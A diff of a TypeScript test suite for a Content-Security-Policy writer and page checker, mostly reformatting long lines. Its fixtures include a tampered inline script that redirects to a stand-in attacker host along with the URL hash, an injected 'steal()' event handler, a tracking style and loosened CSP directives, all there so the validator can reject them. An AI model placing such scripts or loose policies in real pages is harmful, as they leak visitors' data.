@@ -28,14 +28,18 @@ describe('writing the policy tag', () => {
   const written = withPageCsp(withoutTag(PAGE), pageCspPolicy);
 
   it('puts it right after <meta charset>, before anything it must govern', () => {
-    expect(written.indexOf('<meta http-equiv="Content-Security-Policy"')).toBe(written.indexOf('<meta charSet="utf-8"/>') + '<meta charSet="utf-8"/>'.length);
+    expect(written.indexOf('<meta http-equiv="Content-Security-Policy"')).toBe(
+      written.indexOf('<meta charSet="utf-8"/>') + '<meta charSet="utf-8"/>'.length,
+    );
     const noCharset = withPageCsp(withoutTag(PAGE).replace('<meta charSet="utf-8"/>', ''), pageCspPolicy);
     expect(noCharset).toMatch(/<head><meta http-equiv="Content-Security-Policy"/);
   });
 
   it("lists each inline script's hash and each inline style's, and nothing 'unsafe-inline'", () => {
     const policy = policyOf(written);
-    const scripts = [...written.matchAll(/<script>([\s\S]*?)<\/script>|<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)].map((match) => match[1] ?? match[2]);
+    const scripts = [...written.matchAll(/<script>([\s\S]*?)<\/script>|<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)].map(
+      (match) => match[1] ?? match[2],
+    );
     expect(scripts).toHaveLength(5);
     expect(policy.get('script-src')).toEqual(["'self'", ...scripts.map(hashSource)]);
     const styles = [...new Set([...written.matchAll(/ style="([^"]*)"/g)].map((match) => match[1]))];
@@ -68,7 +72,9 @@ describe('the page check', () => {
 
   it('fails a page whose inline script no longer matches its hash, naming the script', () => {
     expect(pageCspProblems(TAMPERED)).toEqual([
-      expect.stringMatching(/^inline script 2 "location\.replace\("https:\/\/attacker\.example\/"\+location\.hash\)" \('sha256-[^']+'\) is not in script-src$/),
+      expect.stringMatching(
+        /^inline script 2 "location\.replace\("https:\/\/attacker\.example\/"\+location\.hash\)" \('sha256-[^']+'\) is not in script-src$/,
+      ),
       expect.stringMatching(/^script-src lists 'sha256-[^']+', which no inline script on the page has$/),
     ]);
   });
@@ -85,16 +91,44 @@ describe('the page check', () => {
 
   it.each([
     ['no policy tag', (html: string) => withoutTag(html), 'no Content-Security-Policy meta tag'],
-    ['two policy tags', (html: string) => html.replace('<title>', `${POLICY_TAG.exec(html)?.[0]}<title>`), '2 Content-Security-Policy meta tags'],
-    ['a tag after other head elements', (html: string) => html.replace(POLICY_TAG, '').replace('<title>', `${POLICY_TAG.exec(html)?.[0]}<title>`), 'comes after <meta>'],
-    ['a tag in <body>', (html: string) => html.replace(POLICY_TAG, '').replace('<h1>', `${POLICY_TAG.exec(html)?.[0]}<h1>`), 'is not in <head>'],
-    ["'unsafe-inline' scripts", (html: string) => html.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"), "script-src allows 'unsafe-inline'"],
-    ["'unsafe-eval'", (html: string) => html.replace("script-src 'self'", "script-src 'self' 'unsafe-eval'"), "script-src allows 'unsafe-eval'"],
+    [
+      'two policy tags',
+      (html: string) => html.replace('<title>', `${POLICY_TAG.exec(html)?.[0]}<title>`),
+      '2 Content-Security-Policy meta tags',
+    ],
+    [
+      'a tag after other head elements',
+      (html: string) => html.replace(POLICY_TAG, '').replace('<title>', `${POLICY_TAG.exec(html)?.[0]}<title>`),
+      'comes after <meta>',
+    ],
+    [
+      'a tag in <body>',
+      (html: string) => html.replace(POLICY_TAG, '').replace('<h1>', `${POLICY_TAG.exec(html)?.[0]}<h1>`),
+      'is not in <head>',
+    ],
+    [
+      "'unsafe-inline' scripts",
+      (html: string) => html.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
+      "script-src allows 'unsafe-inline'",
+    ],
+    [
+      "'unsafe-eval'",
+      (html: string) => html.replace("script-src 'self'", "script-src 'self' 'unsafe-eval'"),
+      "script-src allows 'unsafe-eval'",
+    ],
     ['scripts from anywhere', (html: string) => html.replace("script-src 'self'", "script-src 'self' https:"), 'script-src allows https:'],
     ['no object-src', (html: string) => html.replace("; object-src 'none'", ''), 'object-src is missing'],
     ['a loose base-uri', (html: string) => html.replace("base-uri 'none'", 'base-uri *'), 'base-uri is "*"'],
-    ["'unsafe-inline' styles", (html: string) => html.replace("style-src 'self'", "style-src 'self' 'unsafe-inline'"), "style-src allows 'unsafe-inline'"],
-    ['a changed style attribute', (html: string) => html.replace('--shiki-light:#024C1A;--shiki-dark:#72F088', 'background:url(/track)'), 'inline style "background:url(/track)"'],
+    [
+      "'unsafe-inline' styles",
+      (html: string) => html.replace("style-src 'self'", "style-src 'self' 'unsafe-inline'"),
+      "style-src allows 'unsafe-inline'",
+    ],
+    [
+      'a changed style attribute',
+      (html: string) => html.replace('--shiki-light:#024C1A;--shiki-dark:#72F088', 'background:url(/track)'),
+      'inline style "background:url(/track)"',
+    ],
     ['an inline event handler', (html: string) => html.replace('<h1>', '<h1 onmouseover="steal()">'), 'inline event handler onmouseover'],
   ])('fails a page with %s', (_name, change, problem) => {
     const changed = change(PAGE);
@@ -120,7 +154,7 @@ describe('the header policy', () => {
     expect(CSP_HEADER_POLICY).not.toContain("'unsafe-eval'");
   });
 
-  it("is no looser than the page policy in anything but inline scripts and styles", () => {
+  it('is no looser than the page policy in anything but inline scripts and styles', () => {
     const page = parsePolicy(pageCspPolicy({ scripts: [], styleElements: [], styleAttributes: [] }));
     for (const [directive, sources] of page) {
       if (directive === 'script-src' || directive === 'style-src') continue;
